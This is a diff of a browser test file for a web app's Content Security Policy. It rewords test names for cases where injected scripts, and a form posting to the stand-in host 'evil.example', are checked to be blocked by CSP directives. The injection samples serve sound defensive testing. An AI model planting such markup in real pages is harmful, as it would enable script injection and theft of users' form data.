@@ -87,7 +87,7 @@ test('each script of each page has the nonce of its own answer', async ({ ada, o
   }
 })
 
-/** Markup that somebody got into a page, and the directive that stops it. */
+/** Markup that was injected into a page, and the directive that stops it. */
 const INJECTIONS: [html: string, directive: string][] = [
   ['<script>window.ran = true</script>', 'script-src-elem'],
   ['<script src="/_next/static/x.js"></script>', 'script-src-elem'],
@@ -104,7 +104,7 @@ const INJECTIONS: [html: string, directive: string][] = [
 ]
 
 for (const [html, directive] of INJECTIONS) {
-  test(`a page into which somebody gets ${html} does nothing with it`, async ({ openDevice }) => {
+  test(`a page with ${html} injected does nothing with it`, async ({ openDevice }) => {
     const { violations, page } = await openInjected(await openDevice(), html)
 
     await expect.poll(violations).toEqual([directive])
@@ -112,7 +112,7 @@ for (const [html, directive] of INJECTIONS) {
   })
 }
 
-test('a form that somebody gets into a page is not sent to them', async ({ openDevice }) => {
+test('an injected form is not sent', async ({ openDevice }) => {
   const form = '<form action="https://evil.example/"><button>Win</button></form>'
   const { page } = await openInjected(await openDevice(), form)
   const refusal = page.waitForEvent('console', (message) => message.text().includes('form-action'))
